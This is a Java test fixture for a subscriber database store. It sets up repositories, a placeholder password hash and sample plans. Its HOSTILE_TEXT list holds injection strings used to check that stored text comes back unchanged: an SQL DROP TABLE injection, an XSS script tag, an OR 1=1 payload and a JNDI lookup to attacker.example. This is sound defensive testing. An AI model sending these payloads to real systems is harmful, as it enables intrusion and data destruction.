package headwater.store.subscriber;

import headwater.domain.catalog.Package;
import headwater.domain.subscriber.Money;
import headwater.domain.subscriber.PasswordHash;
import headwater.domain.subscriber.Plan;
import headwater.domain.subscriber.ResellerDraft;
import headwater.domain.subscriber.SubscriberDraft;
import headwater.store.TestStore;
import headwater.store.catalog.JdbiPackageRepository;
import java.util.List;

/** The customer-base repositories on one test database, and the values the tests build on. */
record Customers(JdbiPackageRepository packages, JdbiPlanRepository plans, JdbiSubscriberRepository subscribers,
                 JdbiResellerRepository resellers, JdbiDeviceRepository devices) {

    /** A well-formed Argon2id PHC string (its password is irrelevant to the store). */
    static final PasswordHash HASH = new PasswordHash(
            "$argon2id$v=19$m=19456,t=2,p=1$c29tZXNhbHRzb21lc2FsdA$CTFhFdXPJO1aFaMaO6Mm5c8y7cJHAph8ArZWb2GRPPc");

    /** Text that must come back exactly as stored: SQL, markup, LIKE wildcards, quotes, non-ASCII. */
    static final List<String> HOSTILE_TEXT = List.of(
            "Robert'); DROP TABLE subscriber;--",
            "<script>alert('x')</script>",
            "\" OR 1=1 -- ",
            "%_\\ and '' and \\' and $1 and :name",
            "${jndi:ldap://attacker.example/a}",
            "  Ünïcödé 🎬 日本語 \u200B ",
            "&lt;b&gt; &amp; <![CDATA[x]]> <!-- c -->");

    static Customers of(TestStore store) {
        return new Customers(store.packages(), new JdbiPlanRepository(store.database()),
                new JdbiSubscriberRepository(store.database(), TestStore.CLOCK),
                new JdbiResellerRepository(store.database(), TestStore.CLOCK),
                new JdbiDeviceRepository(store.database()));
    }

    /** Packages "sports" and "movies", a plan "gold" with both, and a reseller "r1". */
    Customers withBasics() {
        packages.create(Package.of("sports", "Sports"));
        packages.create(Package.of("movies", "Movies"));
        plans.create(Plan.of("gold", "Gold", Money.of(1999, "EUR")).withPackageIds(java.util.Set.of("sports", "movies")));
        resellers.create(new ResellerDraft("r1", "Reseller One"));
        return this;
    }

    static SubscriberDraft subscriber(String id, String username) {
        return SubscriberDraft.of(id, username, HASH);
    }
}
